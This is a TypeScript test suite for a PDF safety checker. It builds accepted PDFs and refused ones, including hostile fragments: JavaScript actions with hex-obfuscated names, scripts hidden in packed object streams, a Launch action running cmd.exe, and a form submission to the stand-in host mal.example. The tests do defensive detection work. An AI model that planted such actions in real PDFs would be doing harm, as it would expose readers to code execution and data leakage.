import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { findPdfFault } from './check-pdf.ts';
import { hidingPdfs } from './hiding-pdfs.fixture.ts';
import { packedStream, pdf, stream } from './pdf.fixture.ts';

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('a PDF', () => {
  it.each([
    ['is one empty page', pdf()],
    ['goes to a place of its own', pdf('<< /S /GoTo /D [3 0 R /Fit] >>')],
    ['has packed objects', pdf(packedStream('/Type /ObjStm /N 1 /First 4', '5 0 << /Title (JS, Launch) >>'))],
    [
      'has a profile of colours',
      pdf(packedStream('/N 3 /Alternate /DeviceRGB', Buffer.alloc(3_000, ' /JS'))),
    ],
    ['has comments and strings of all sorts', pdf('[ (a \\( b (c) % d) <48 65 6C> /A#20B % é >> (\n null ]')],
    [
      'has a table that is packed by differences',
      pdf(packedStream('/Type /XRef /W [1 2 1] /DecodeParms << /Predictor 12 >>', 'x')),
    ],
  ])('that %s is taken', (_, bytes) => {
    expect(findPdfFault(bytes)).toBeNull();
  });

  it.each([
    [
      'Word',
      '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 9>>\r\nstream\r\n',
      '\r\nendstream\r\nendobj\r\nxref\r\n0 0\r\ntrailer\r\n<</Size 20/ID[<0AF3><0AF3>] >>\r\n',
    ],
    [
      'LibreOffice',
      '<</Length 3 0 R/Filter/FlateDecode>>\nstream\n',
      '\nendstream\nendobj\n\n3 0 obj\n9\nendobj\n',
    ],
    ['Ghostscript', '<</N 3/Filter[/FlateDecode]/Length 9>>stream\n', '\nendstream\nendobj\n%%EOF\n'],
    [
      'macOS',
      '<< /Length 12 0 R /N 3 /Alternate /DeviceRGB /Filter /FlateDecode >>\nstream\n',
      'endstream\nendobj\n',
    ],
  ])('is taken when it is as %s writes it', (_, before, after) => {
    const parts = [before, deflateSync('5 0 << /Title (a) >>'), after];
    expect(findPdfFault(pdf(Buffer.concat(parts.map((part) => Buffer.from(part)))))).toBeNull();
  });

  it('is taken whatever the bytes of its pictures look like', () => {
    const bytes = Buffer.concat([randomBytes(4_000), Buffer.from(' /JS (x) /XFA ( << obj ')]);
    expect(findPdfFault(pdf(stream('/Subtype /Image', bytes)))).toBeNull();
  });

  it.each([
    ['runs a script', pdf(script)],
    ['runs a script that it names by numbers', pdf('<< /S /J#61vaScript /#4A#53 (app.alert(1)) >>')],
    ['hides a script among packed objects', pdf(packedStream('/Type /ObjStm /N 1', `5 0 ${script}`))],
    [
      'hides that its objects are packed, and names its script by numbers there',
      pdf(packedStream('/Type /#4FbjStm /N 1', '5 0 << /S /#4AavaScript /#4AS (app.alert(1)) >>')),
    ],
    ['starts a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['holds other files', pdf('<< /Names << /EmbeddedFiles 5 0 R >> >>')],
    ['goes to a place of another file', pdf('<< /S /GoToR /F (plan.pdf) /D [0 /Fit] >>')],
    [
      'goes to a place of a file that is in another one',
      pdf('<< /S /GoToE /F (plan.pdf) /T << /R /C /N (guide.pdf) >> /D [0 /Fit] >>'),
    ],
    [
      'hides among packed objects, by numbers, that it goes to another file',
      pdf(packedStream('/Type /ObjStm /N 1', '5 0 << /S /#47oTo#52 /F (plan.pdf) >>')),
    ],
    ['fills its form from a file', pdf('<< /S /ImportData /F (reponses.fdf) >>')],
    ['sends a form', pdf('<< /S /SubmitForm /F (https://mal.example) >>')],
    ['runs a script with a film', pdf('<< /S /Rendition /OP 0 /JS (app.alert(1)) >>')],
    ['has a form that is a program', pdf('<< /AcroForm << /XFA 5 0 R >> >>')],
  ])('that %s is refused', (_, bytes) => {
    expect(findPdfFault(bytes)).toBe('active');
  });

  it.each(hidingPdfs)('that hides a script %s is refused', (_, fault, bytes) => {
    expect(findPdfFault(bytes)).toBe(fault);
  });

  it('that is protected is refused: nobody could check it, nor read it aloud', () => {
    expect(findPdfFault(pdf('null', '/Encrypt 9 0 R'))).toBe('protected');
  });

  it.each([
    ['ends too early', pdf().subarray(0, 200)],
    ['has only its first bytes', Buffer.from('%PDF-1.7\n')],
    [
      'has packed objects that cannot be unfolded',
      pdf('<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream'),
    ],
    ['unfolds without end', pdf(packedStream('/Type /ObjStm /N 1', Buffer.alloc(70 * 1024 * 1024)))],
  ])('that %s is refused', (_, bytes) => {
    expect(findPdfFault(bytes)).toBe('damaged');
  });

  it.each([
    ['a string that does not end', pdf('(a')],
    ['a parenthesis alone', pdf('a)')],
    ['an end alone', pdf('>>')],
    ['a list that ends as a dictionary', pdf('[ 1 >>')],
    ['an object within another', pdf('<< /A 5 0 obj >>')],
    ['a stream that does not end', pdf('<< >>\nstream\nabc')],
    ['a stream without a dictionary', pdf('stream\nabc\nendstream')],
    ['a character of control', pdf('<< /A\x0B1 >>')],
    ['dictionaries without end', pdf('[ '.repeat(200))],
  ])('with %s can be read in several ways, and is refused', (_, bytes) => {
    expect(findPdfFault(bytes)).toBe('unsure');
  });

  it('is checked in a few seconds at most, whatever its 10 MB are', () => {
    const worst = [
      pdf(randomBytes(10_000_000)),
      pdf('<< /A (#41'.repeat(1_000_000)),
      pdf('#41'.repeat(3_300_000)),
      pdf('/A '.repeat(3_300_000)),
      pdf(`[ ${'/A '.repeat(3_300_000)} ]`),
      pdf('% \n'.repeat(3_300_000)),
      pdf(' obj '.repeat(2_000_000)),
      pdf('<< /N 1 >>\nstream\n\nendstream '.repeat(340_000)),
      pdf(packedStream('/Type /ObjStm', '#41'.repeat(11_000_000))),
      pdf('>> stream\n'.repeat(1_000_000)),
      pdf('>>\nstream\nendstream '.repeat(480_000)),
      Buffer.concat(
        Array.from({ length: 20 }, () =>
          pdf(stream('/N 1 /Filter /FlateDecode', deflateSync(randomBytes(500_000)))),
        ),
      ),
    ];
    for (const bytes of worst) {
      const begun = process.threadCpuUsage();
      findPdfFault(bytes);
      expect(process.threadCpuUsage(begun).user).toBeLessThan(3_000_000);
    }
  });
});
